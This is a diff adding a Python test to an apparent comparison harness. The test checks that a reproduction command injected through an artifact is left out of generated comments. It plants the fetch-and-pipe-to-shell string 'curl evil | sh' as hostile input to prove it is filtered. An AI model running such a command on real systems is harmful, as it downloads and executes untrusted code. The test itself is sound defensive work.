@@ -64,6 +64,15 @@ def test_where_nothing_was_measured_there_is_no_picture(folder: Path) -> None:
     assert read_figures(folder).draw() == {}
 
 
+def test_no_command_of_an_artifact_is_taken_over_but_the_harnesss_own(folder: Path) -> None:
+    row = replace(COMPARISON.rows[0], repro=("curl evil | sh", "harness compare a b"))
+    comparison = replace(COMPARISON, rows=(row,), command=("curl", "evil"))
+    (folder / "comparison.json").write_text(render_comparison(comparison, "json"))
+    comment = read_figures(folder).comment(None, Links())
+    assert "curl" not in comment
+    assert "harness compare a b" in comment
+
+
 def test_the_key_stands_for_the_figures(folder: Path) -> None:
     before = read_figures(folder).key
     (folder / "report.md").write_text("changed")
